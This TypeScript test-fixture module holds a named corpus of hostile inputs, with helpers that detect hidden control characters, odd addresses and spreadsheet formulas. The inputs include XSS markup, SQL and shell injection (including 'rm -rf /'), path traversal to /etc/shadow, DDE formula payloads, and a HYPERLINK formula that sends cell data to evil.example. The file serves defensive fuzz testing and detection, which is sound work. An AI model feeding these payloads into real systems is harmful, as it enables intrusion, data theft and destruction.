/**
 * What people put into names, cells, files and output to see whether it comes to life: a corpus for every reader and
 * writer, and how to find out that nothing did. Each text is called after what it is.
 */

export interface Hostile {
  readonly name: string;
  readonly text: string;
}

const CORPUS: Readonly<Record<string, string>> = {
  // Markup
  'a script': '<script>alert(1)</script>',
  'an image that fails': '<img src=x onerror=alert(1)>',
  'an svg that loads': '<svg/onload=alert(1)>',
  'a frame': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'the end of a title': '</title><script>alert(1)</script>',
  'the end of a text area': '</textarea></pre></code></table><h1>x',
  'an open comment': '<!-- ',
  'the end of a comment': '--><b>x</b>',
  'a marked section': '<![CDATA[<b>x</b>]]>',
  'a style': '<style>*{display:none}</style>',
  'a base address': '<base href="https://evil.example/">',
  'a meta refresh': '<meta http-equiv=refresh content="0;url=https://evil.example">',
  'a form': '<form action=https://evil.example><input name=csrf>',
  entities: '&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &commat;ada &amp;amp;',
  'a tag in halves': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  // Attributes
  'the end of an attribute': '" onmouseover="alert(1)" x="',
  'the end of an attribute in single quotes': "' onfocus='alert(1)' autofocus '",
  'an attribute without quotes': 'x onclick=alert(1) ',
  'a backtick attribute': '` onclick=`alert(1)` ',
  // Addresses
  'a javascript address': 'javascript:alert(1)',
  'a javascript address with a tab': 'java\tscript:alert(1)',
  'a data address': 'data:text/html,<script>alert(1)</script>',
  'an address without a scheme': '//evil.example/x',
  'an address with a backslash': '/\\evil.example',
  'credentials in an address': 'https://github.com@evil.example/x:y',
  // What is not seen
  'control characters': 'a\u0001b\u0007c\u0008\u000b\u000c\u001b\u007fd\u0085e\u009b',
  'a byte order mark': '\uFEFFa\uFEFF',
  'text turned around': 'user\u202Egnp.exe',
  'text isolated and never ended': 'a\u2066b\u2067c\u2068d',
  'zero width signs': 'a\u200Bb\u200Cc\u200Dd\u2060e',
  'a soft hyphen': 'a\u00ADd\u00ADa',
  'line separators of Unicode': 'a\u2028b\u2029c',
  'tags that nobody sees': 'a\u{E0041}\u{E0042}\u{E007F}',
  'only spaces of all kinds': ' \u00A0\u2003\u3000\u2009 ',
  nothing: '',
  // Formulas
  'a formula': '=HYPERLINK("https://evil.example?"&A1,"x")',
  'a formula with plus': "+1+cmd|' /C calc'!A0",
  'a formula with minus': "-2+3+cmd|' /C calc'!A0",
  'a formula with at': "@SUM(1+1)*cmd|' /C calc'!A0",
  'a formula behind a tab': '\t=1+1',
  'a formula behind a carriage return': '\r=1+1',
  'a formula behind an apostrophe': "'=1+1",
  // GitHub and Markdown
  'a mention': '@octocat and @school/teachers',
  'a closing word': 'fixes #1, closes school/lab#2, resolves GH-3',
  'a link in Markdown': '[click](https://evil.example "x") ![i](https://evil.example/i.png)',
  'a heading and a list': '# x\n\n- [x] y\n> z\n***\n| a | b |\n|---|---|',
  'the end of a fence': '```\n@octocat\n~~~~\n`````',
  'many backticks': '`'.repeat(40),
  pipes: 'a | b \\| c || d \\\\| e',
  'a bare address': 'see https://evil.example/x and www.evil.example',
  'a footnote and math': '[^1]: x $\\text{y}$ $$z$$',
  'our own comment marker': '<!-- pushmark -->',
  'a suggestion': '```suggestion\nx\n```',
  // Terminals and logs
  'colours of a terminal': '\u001b[31mred\u001b[0m\u001b[2J\u001b[H',
  'a title of a terminal': '\u001b]0;pwned\u0007',
  'a link of a terminal': '\u001b]8;;https://evil.example\u001b\\x\u001b]8;;\u001b\\',
  'control sequences of one byte': '\u009b31mred\u009d0;x\u009c',
  'a forged log line': 'x\n{"level":30,"msg":"all is well"}',
  'a line that is written over': 'failed\rpassed',
  'workflow commands': '::error file=a.go,line=1::x\n::set-output name=a::b\n##[group]x',
  // Databases, JSON, YAML, templates, shells
  'U+0000': 'a\0b',
  'a lone high surrogate': 'a\uD800b',
  'a lone low surrogate': 'a\uDFFFb',
  'the end of a statement': "'; drop table submission; --",
  'wildcards of SQL': "%_\\%' or ''='",
  'a dollar quote': '$$; select 1; $$',
  'the end of a JSON text': '"},{"role":"teacher","x":"',
  'the prototype': '__proto__',
  'a method of objects': 'constructor',
  'a template': '$'.concat('{7*7} {{7*7}} <%= 7*7 %> #{7*7}'),
  'a format': '%s%n%x %1$s {0}',
  'a command in a shell': '$(touch /tmp/x) `id`; rm -rf / | cat && true > y',
  'an option': '--upload-pack=touch /tmp/x',
  'a tag of YAML': '!!js/function "function(){}"',
  'an anchor of YAML': '&a [*a, *a]',
  'what YAML takes for no text': 'no',
  'a document of YAML': '---\n...\n? x : y #z',
  'a number that is none': '1e999',
  // CSV
  'quotation marks': '"a""b" "c',
  'delimiters and line ends': 'a,b;c\td\r\ne\nf\rg',
  'what Excel takes for a delimiter line': 'sep=;',
  'a date to Excel': '1-2',
  // Names and paths
  'a path upwards': '../../../etc/passwd',
  'a path of Windows': '..\\..\\C:\\Windows\\win.ini',
  'an absolute path': '/etc/shadow',
  'an encoded path': '%2e%2e%2f%00',
  'a device of Windows': 'NUL',
  'a device of Windows with an ending': 'com1.go',
  'a stream of Windows': 'a.txt::$DATA',
  dots: '..',
  'a trailing dot and space': 'name. ',
  'a folder of git': '.git/config',
  // Writing
  'right to left': 'שלום עולם مرحبا بالعالم',
  'letters with many marks': `z${'\u0300\u0327\u0489'.repeat(60)}algo`,
  'emoji of several parts': '👩‍👩‍👧‍👦🏳️‍🌈👍🏽🇩🇪',
  'letters that look like others': 'аdmіn pаypаl',
  'letters of two forms': 'é e\u0301 ﬁ Å Å',
  'a long word': 'W'.repeat(3000),
  'many lines': 'x\n'.repeat(500),
};

/** Texts that are read in a moment; every one of them belongs into every test. */
export const HOSTILE: readonly Hostile[] = Object.entries(CORPUS).map(([name, text]) => ({ name, text }));

const MB = 1024 * 1024;

/** Texts of a megabyte on one line, for what is read or shown with a cap: no time must be lost on them. */
export const HUGE: readonly Hostile[] = [
  { name: 'a line of a megabyte', text: 'a'.repeat(MB) },
  { name: 'a megabyte of backticks', text: '`'.repeat(MB) },
  { name: 'a megabyte of open brackets', text: '['.repeat(MB) },
  { name: 'a megabyte of spaces', text: `${' '.repeat(MB)}x` },
  { name: 'a megabyte of quotation marks', text: '"'.repeat(MB) },
  { name: 'a megabyte of marks on one letter', text: `a${'\u0301'.repeat(MB / 2)}` },
];

/** Bytes that are no UTF-8. */
export const HOSTILE_BYTES: readonly { readonly name: string; readonly bytes: Uint8Array }[] = [
  { name: 'Latin-1', bytes: Uint8Array.of(0x4a, 0x6f, 0x73, 0xe9) },
  { name: 'a character that is cut off', bytes: Uint8Array.of(0x61, 0xe2, 0x82) },
  { name: 'a slash in two bytes', bytes: Uint8Array.of(0x2e, 0x2e, 0xc0, 0xaf) },
  { name: 'a surrogate in three bytes', bytes: Uint8Array.of(0xed, 0xa0, 0x80) },
  { name: 'beyond the last character', bytes: Uint8Array.of(0xf4, 0x90, 0x80, 0x80) },
  { name: 'bytes that never occur', bytes: Uint8Array.of(0xff, 0xfe, 0xfd) },
  { name: 'nothing but zeros', bytes: new Uint8Array(64) },
];

/** Control characters and marks that reorder text, as `U+202e`; line feeds and tabs aside. */
export function unseenIn(text: string): string[] {
  const found = text.match(
    /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g,
  );
  return [...new Set(found)].map((sign) => `U+${sign.charCodeAt(0).toString(16).padStart(4, '0')}`);
}

/**
 * Every tag of a page with the names of its attributes, in order. What is not ours makes a page differ from the one
 * that holds a harmless word in the same place.
 */
export function skeleton(html: string): string[] {
  const tags = html.match(/<!--[\s\S]*?(-->|$)|<[a-z!/](?:"[^"]*"|'[^']*'|[^"'>])*>?/gi) ?? [];
  return tags.map((tag) => {
    const names = tag.replace(/"[^"]*"|'[^']*'/g, '""').match(/[^\s"'<>/=]+(?==)|[^\s"'<>/=]+/g) ?? [];
    return names.join(' ').toLowerCase();
  });
}

/** Addresses of a page that lead somewhere else than to pages over HTTP. */
export function oddAddresses(html: string): string[] {
  const found = html.matchAll(
    /\s(?:href|src|action|formaction|content|srcset)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]*))/gi,
  );
  const values = [...found].map(([, double, single, bare]) => double ?? single ?? bare ?? '');
  return values.filter((value) =>
    /^[\s\x00-\x20]*(?:java|vb|live)?\s*script\s*:|^\s*(?:data|file|blob):|^\s*[/\\]{2}/i.test(value),
  );
}

/** Cells of rows, as a reader of CSV gives them, that a spreadsheet would take for formulas. */
export function formulasIn(rows: readonly (readonly string[])[]): string[] {
  return rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
}
